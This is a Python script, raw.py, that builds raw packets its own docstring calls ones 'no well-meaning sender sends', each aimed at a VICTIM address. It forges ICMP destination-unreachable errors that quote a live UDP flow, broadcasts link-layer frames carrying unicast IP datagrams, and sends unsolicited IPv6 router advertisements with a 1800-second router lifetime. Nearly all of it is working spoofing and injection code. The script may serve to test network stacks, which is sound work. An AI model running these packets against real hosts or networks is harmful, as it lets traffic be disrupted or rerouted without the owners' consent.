# SPDX-License-Identifier: Apache-2.0
"""Packets that no well-meaning sender sends.

    raw.py error VICTIM PEER PORT     speak with PEER, over UDP, and send VICTIM an error about that
    raw.py group ADDRESS NEAR         a datagram in a frame to all stations, from whom NEAR is asked by
    raw.py advertise VICTIM           a router advertisement
"""
import socket
import struct
import sys

DEVICE = "eth0"
UNREACHABLE = {socket.AF_INET: 3, socket.AF_INET6: 1}


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def own_address(to):
    with socket.socket(family_of(to), socket.SOCK_DGRAM) as probe:
        probe.connect((to, 9))
        return probe.getsockname()[0]


def datagram(src, dst, sport, dport):
    """A network header, with its checksum if it has one, and UDP's."""
    family = family_of(src)
    ends = socket.inet_pton(family, src) + socket.inet_pton(family, dst)
    udp = struct.pack("!HHHH", sport, dport, 8, 0)
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, 8, 17, 64) + ends + udp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def send_icmp(to, message):
    family = family_of(to)
    proto = socket.IPPROTO_ICMPV6 if family == socket.AF_INET6 else socket.IPPROTO_ICMP
    if family == socket.AF_INET:  # of IPv6 the kernel does it
        message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    with socket.socket(family, socket.SOCK_RAW, proto) as raw:
        if family == socket.AF_INET6:  # an advertisement from further away is not heeded
            raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        raw.sendto(message, socket.getaddrinfo(to, None)[0][4])


def error(victim, peer, port):
    with socket.socket(family_of(peer), socket.SOCK_DGRAM) as flow:
        flow.settimeout(2)
        flow.connect((peer, int(port)))
        flow.send(b"who?")
        flow.recv(100)
        src, sport = flow.getsockname()[:2]
        send_icmp(victim, struct.pack("!BBHI", UNREACHABLE[family_of(peer)], 1, 0, 0) +
                  datagram(src, peer, sport, int(port)))


def group(address, near):
    family = family_of(address)
    ethertype = b"\x86\xdd" if family == socket.AF_INET6 else b"\x08\x00"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((DEVICE, 0))
        mac = raw.getsockname()[4]
        raw.send(b"\xff" * 6 + mac + ethertype + datagram(own_address(near), address, 1000, 1000))


def advertise(victim):
    send_icmp(victim, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0))


if __name__ == "__main__":
    {"error": error, "group": group, "advertise": advertise}[sys.argv[1]](*sys.argv[2:])
